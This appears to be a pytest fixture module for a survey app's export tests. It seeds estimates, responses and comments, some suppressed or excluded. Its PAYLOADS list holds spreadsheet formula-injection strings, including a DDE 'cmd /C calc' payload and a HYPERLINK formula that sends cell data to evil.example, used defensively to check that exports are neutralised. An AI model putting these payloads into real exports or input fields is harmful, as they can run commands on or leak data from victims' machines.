"""Known rows for the export tests: estimates (one suppressed), responses, payload comments."""
from __future__ import annotations

from datetime import UTC, datetime

import pytest

from tests.pulse.auth.conftest import Tree, tree  # noqa: F401  (the area tree fixture)

#: What an attacker types into a free-text box, hoping a spreadsheet will run it.
PAYLOADS = (
    "=1+1",
    " =cmd|' /C calc'!A0",
    "\t=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "\r+1+1",
    "  @SUM(1,1)",
    "-2+3",
    "\n=1+1",
    "\r\n\t =1+1",
    "\uff1d1+1",                 # full-width equals sign
    "\u00a0=1+1",                # no-break space first
    "\u200b=1+1",                # zero-width space first
    "\ufeff@SUM(A1)",            # byte-order mark first
    "+",
    "@",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "\tplain words after a tab",
    "\rplain words after a carriage return",
)
#: Text that must come out exactly as it went in.
HARMLESS = ("Better lighting = fewer problems", "e-mail me at a@b.example", "'=already quoted",
            "2+2 is four", "café au lait")
MONTH = 2026 * 12 + 9        # 2026-10
RAW = "RAW WORDS NEVER EXPORTED"
DEVICE = "DEVICEHASH0123456789"


@pytest.fixture
def data(app, tree):  # noqa: F811
    """Estimates, responses (one excluded) and comments in and out of Bellingham's subtree."""
    from sqlalchemy import select

    from pulse.extensions import db
    from pulse.instruments.operations import ensure_core
    from pulse.models import (Answer, Area, Comment, Estimate, Question, Response, TextModel,
                              Topic, TopicPrediction)

    with app.app_context():
        version = ensure_core()
        ids = dict(db.session.execute(select(Area.code, Area.id)).all())
        questions = dict(db.session.execute(
            select(Question.code, Question.id).where(Question.version_id == version.id)).all())

        def estimate(code, period, measure, value, *, suppressed=False, withheld=False,
                     change=None, significant=None):
            db.session.add(Estimate(
                area_id=ids[code], period=period, period_kind="month", period_end=MONTH,
                measure=measure, group_label="all", unit="score",
                n=None if suppressed or withheld else 120,
                effective_n=None if suppressed or withheld else 96.04,
                estimate=value, std_error=2.0, ci_low=value - 4, ci_high=value + 4,
                suppressed=suppressed,
                suppressed_reason="fewer than 10" if suppressed else
                ("derivable" if withheld else None),
                change=change, change_significant=significant, modelled_estimate=value + 1))

        estimate(tree.ward_a, "2026-10", "trust", 61.234, change=-12.345, significant=True)
        # Figures stored by mistake beside a suppressed flag must still not leave.
        estimate(tree.ward_a, "2026-10", "safe_day", 48.0, suppressed=True, change=5.0,
                 significant=True)
        estimate(tree.ward_a_child, "2026-10", "trust", 55.0, withheld=True)
        estimate(tree.ward_b, "2026-10", "trust", 40.0)
        estimate(tree.other_ward, "2026-10", "trust", 70.0)

        at = datetime(2026, 10, 15, 9, 30, 5, tzinfo=UTC)
        responses = []
        for n, (code, excluded) in enumerate([(tree.ward_a, False), (tree.ward_a, False),
                                              (tree.ward_a, True), (tree.ward_a_child, False),
                                              (tree.ward_b, False), (tree.other_ward, False)]):
            r = Response(area_id=ids[code], version_id=version.id, submitted_at=at,
                         channel="qr", language="cy" if n == 1 else "en", age_band="35-44",
                         sex="female", ethnicity="white", device_hash=DEVICE + str(n),
                         submission_key=f"SUBMISSIONKEY{n:04d}", excluded=excluded,
                         quality_flags=[])
            r.answers = [Answer(question_id=questions["safe_day"], value=7 + n % 3),
                         Answer(question_id=questions["informed"], dont_know=True),
                         Answer(question_id=questions["top_issue"], text=PAYLOADS[0])]
            db.session.add(r)
            responses.append(r)
        db.session.flush()

        topic = Topic(code="lighting", label="=Street lighting")
        model = TextModel(version="t1", artifact_path="/nowhere", status="live")
        db.session.add_all([topic, model])
        db.session.flush()
        for i, text in enumerate(PAYLOADS + HARMLESS):
            c = Comment(response_id=responses[0].id, question_id=questions["top_issue"],
                        area_id=ids[tree.ward_a], submitted_at=at, raw_text=RAW,
                        redacted_text=text, safeguarding_reasons=[])
            db.session.add(c)
            db.session.flush()
            db.session.add(TopicPrediction(comment_id=c.id, model_id=model.id, topic_id=topic.id,
                                           confidence=0.87654, secondary_topics=["-litter"],
                                           needs_review=i % 2 == 0))
        db.session.add(Comment(response_id=responses[5].id, question_id=questions["top_issue"],
                               area_id=ids[tree.other_ward], submitted_at=at, raw_text=RAW,
                               redacted_text="Peckham comment", safeguarding_reasons=[]))
        db.session.commit()
    return tree
